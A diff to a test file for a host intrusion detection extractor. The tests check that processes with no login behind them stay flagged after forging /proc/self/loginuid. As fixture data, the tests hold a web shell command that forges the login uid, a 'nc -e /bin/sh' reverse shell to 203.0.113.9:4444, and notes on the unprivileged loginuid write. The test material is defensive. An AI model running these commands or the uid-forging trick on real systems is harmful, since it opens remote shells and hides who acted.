@@ -205,7 +205,8 @@ t.test("the template miner reaches Drain's published accuracy on loghub", async 
 });
 
 t.test('a process no login is behind (auid −1) carries that fact, one a login or an unknown auid does not', async (t) => {
-  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
+  // a fresh extractor for each row: one process's rows in turn would be a login uid written (review9)
+  const x = () => new FeatureExtractor({ users: new UidMap(), overrides: {} });
   const row = (auid: string | undefined): ResultRow => ({
     query: 'pack_hids_process_events',
     host: 'edge-web',
@@ -214,6 +215,119 @@ t.test('a process no login is behind (auid −1) carries that fact, one a login 
     columns: { pid: '4100', parent: '950', path: '/usr/bin/id', cmdline: 'id', uid: '33', euid: '33', ...(auid === undefined ? {} : { auid }) },
     decorations: {},
   });
-  for (const auid of ['4294967295', '-1']) t.ok(x.extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${auid}: ${NO_LOGIN}`);
-  for (const auid of ['33', '1003', '', undefined]) t.notOk(x.extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${String(auid)}: nothing said`);
+  for (const auid of ['4294967295', '-1']) t.ok(x().extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${auid}: ${NO_LOGIN}`);
+  for (const auid of ['33', '1003', '', undefined]) t.notOk(x().extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${String(auid)}: nothing said`);
+});
+
+t.test('a login uid a process no login is behind wrote itself is no login: its children, its own later rows, after a restart (review9)', async (t) => {
+  // any process whose login uid is unset may write /proc/self/loginuid once, to any uid, with
+  // no privilege (kernel/auditsc.c audit_set_loginuid_perm); only a privileged process with
+  // none of its own (sshd-session, login, cron's fork running pam_loginuid) sets a login's
+  let at = 1_790_000_000;
+  const exec = (pid: string, parent: string, path: string, cmdline: string, uid: string, auid: string, euid = uid): ResultRow => ({
+    query: 'pack_hids_process_events',
+    host: 'edge-web',
+    time: (at += 5),
+    action: 'added',
+    columns: { pid, parent, path, cmdline, uid, euid, auid },
+    decorations: {},
+  });
+  const connect = (pid: string, auid: string): ResultRow => ({
+    query: 'pack_hids_socket_events',
+    host: 'edge-web',
+    time: (at += 5),
+    action: 'added',
+    columns: { pid, path: '/usr/bin/nc', action: 'connect', remote_address: '203.0.113.9', remote_port: '4444', family: '2', auid },
+    decorations: {},
+  });
+  const unset = '4294967295';
+  const noLogin = (x: FeatureExtractor, row: ResultRow) => x.extract(row).event.values.includes(NO_LOGIN);
+  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
+  t.ok(noLogin(x, exec('5000', '950', '/bin/sh', "sh -c 'echo 33 > /proc/self/loginuid; nc …'", '33', unset)), 'the web shell: auid unset');
+  t.ok(noLogin(x, exec('5010', '5000', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444', '33', '33')), 'its child, auid 33 written by the shell: no login');
+  t.ok(noLogin(x, connect('5010', '33')), "the child's connection");
+  t.ok(noLogin(x, connect('5000', '33')), "the shell's own connection after it wrote its login uid");
+  t.ok(noLogin(x, exec('5000', '950', '/usr/bin/id', 'id', '33', '33')), 'the shell replaced by another program (exec in place)');
+  // a set-uid program between them passes on what it was given: newgrp runs the shell in place
+  t.ok(noLogin(x, exec('5020', '5010', '/usr/bin/newgrp', 'newgrp www-data', '33', '33', '0')), 'a set-uid program the writer started');
+  t.ok(noLogin(x, exec('5020', '5010', '/bin/sh', 'sh', '33', '33')), "and the shell it became, whose children's login uid it did not set");
+  t.ok(noLogin(x, exec('5030', '5020', '/usr/bin/id', 'id', '33', '33')), '…nor theirs');
+  // a table with no auid column (`processes`, polled) says nothing about the writer
+  const snapshot = exec('5000', '950', '/usr/bin/id', 'id', '33', '');
+  delete snapshot.columns.auid;
+  t.notOk(noLogin(x, { ...snapshot, query: 'pack_hids_processes' }), 'a processes row of the shell: nothing said');
+  t.ok(noLogin(x, exec('5050', '5000', '/usr/bin/id', 'id', '33', '33')), "after it, the shell's children as before");
+  // what a restart keeps: process_events reports each process once
+  const y = FeatureExtractor.fromState(JSON.parse(JSON.stringify(x.toState())), { users: new UidMap(), overrides: {} });
+  t.ok(noLogin(y, exec('5040', '5010', '/usr/bin/uname', 'uname -a', '33', '33')), 'after a restart, a child of the process that wrote it');
+  t.ok(noLogin(y, connect('5000', '33')), 'after a restart, the writer itself');
+  // a login: sshd-session (root, none of its own) runs pam_loginuid, then the user's shell
+  const z = FeatureExtractor.fromState(JSON.parse(JSON.stringify(x.toState())), { users: new UidMap(), overrides: {} });
+  t.ok(noLogin(z, exec('6000', '612', '/usr/lib/openssh/sshd-session', 'sshd-session: ops [priv]', '0', unset)), 'sshd-session itself has none');
+  t.notOk(noLogin(z, exec('6010', '6000', '/bin/bash', '-bash', '1003', '1003')), "the login shell sshd-session's pam_loginuid set: a login");
+  t.notOk(noLogin(z, exec('6020', '6010', '/usr/bin/id', 'id', '1003', '1003')), "the session's commands");
+  t.notOk(noLogin(z, connect('6010', '1003')), "the session's connections");
+  t.notOk(noLogin(z, exec('6030', '7777', '/usr/bin/id', 'id', '33', '33')), 'a parent never seen: nothing said');
+});
+
+t.test("a login uid written by a process no login is behind names nobody: the rows are their uid's, not the named account's (review9)", async (t) => {
+  const users = new UidMap();
+  users.load([
+    ['33', 'www-data'],
+    ['1003', 'ops'],
+  ]);
+  const x = new FeatureExtractor({ users, overrides: {} });
+  const exec = (pid: string, parent: string, cmdline: string, auid: string): ResultRow => ({
+    query: 'pack_hids_process_events',
+    host: 'edge-web',
+    time: 1_790_000_000,
+    action: 'added',
+    columns: { pid, parent, path: `/usr/bin/${cmdline.split(' ')[0]}`, cmdline, uid: '33', euid: '33', auid },
+    decorations: {},
+  });
+  t.equal(x.extract(exec('5000', '950', "sh -c 'echo 1003 > /proc/self/loginuid; nc …'", '4294967295')).subject, 'www-data', 'the web shell');
+  const child = exec('5010', '5000', 'nc -e /bin/sh 203.0.113.9 4444', '1003');
+  t.equal(x.extract(child).subject, 'www-data', "its child, whose auid names ops: www-data's doing, not ops's");
+  t.equal(x.match(child).key, x.match(child).key, 'the side-effect-free path agrees');
+  const connect: ResultRow = {
+    query: 'pack_hids_socket_events',
+    host: 'edge-web',
+    time: 1_790_000_010,
+    action: 'added',
+    columns: { pid: '5010', path: '/usr/bin/nc', action: 'connect', remote_address: '203.0.113.9', remote_port: '4444', family: '2', auid: '1003' },
+    decorations: {},
+  };
+  t.equal(x.extract(connect).subject, 'host', "its connection: no user, as a daemon's with an unset auid");
+  // ops's own session is ops's
+  x.extract({
+    ...exec('6000', '612', 'sshd-session: ops [priv]', '4294967295'),
+    columns: { ...exec('6000', '612', 'x', '4294967295').columns, uid: '0', euid: '0' },
+  });
+  t.equal(
+    x.extract({ ...exec('6010', '6000', 'bash', '1003'), columns: { ...exec('6010', '6000', 'bash', '1003').columns, uid: '1003', euid: '1003' } }).subject,
+    'ops',
+    "ops's login shell",
+  );
+});
+
+t.test("a service's child that wrote its login uid is still known after a busy day of root's daemons and jobs (review9)", async (t) => {
+  // the processes kept are bounded (20,000 a host); root's jobs with no login (cron's, a
+  // timer's health check), the bulk of a server's execs, may set a login's uid (pam_loginuid)
+  // and need no room: a web shell that wrote its uid and waited would otherwise be forgotten
+  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
+  let at = 1_790_000_000;
+  const exec = (pid: string, parent: string, uid: string, auid: string): ResultRow => ({
+    query: 'pack_hids_process_events',
+    host: 'edge-web',
+    time: (at += 1),
+    action: 'added',
+    columns: { pid, parent, path: uid === '0' ? '/usr/lib/check' : '/bin/sh', cmdline: 'x', uid, euid: uid, auid },
+    decorations: {},
+  });
+  x.extract(exec('5000', '950', '33', '4294967295'));
+  for (let i = 0; i < 25_000; i++) x.extract(exec(String(100_000 + i), '1', '0', '4294967295'));
+  t.ok(x.extract(exec('5010', '5000', '33', '33')).event.values.includes(NO_LOGIN), 'its child a day later: no login');
+  t.ok(x.extract(exec('5000', '950', '33', '33')).event.values.includes(NO_LOGIN), 'itself running another program in place');
+  // its pid taken by another process (another parent) is that process's
+  t.notOk(x.extract(exec('5000', '612', '1003', '1003')).event.values.includes(NO_LOGIN), 'a pid used again under another parent');
 });
